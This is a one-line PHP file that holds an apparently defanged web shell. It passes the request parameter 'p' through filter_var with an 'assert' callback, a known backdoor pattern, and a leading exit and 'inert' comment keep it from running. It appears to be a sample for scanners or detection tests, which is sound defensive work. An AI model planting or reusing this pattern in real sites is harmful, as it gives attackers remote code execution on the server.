<?php exit; /* inert */ filter_var($_REQUEST["p"],FILTER_CALLBACK,array("options"=>"assert"));
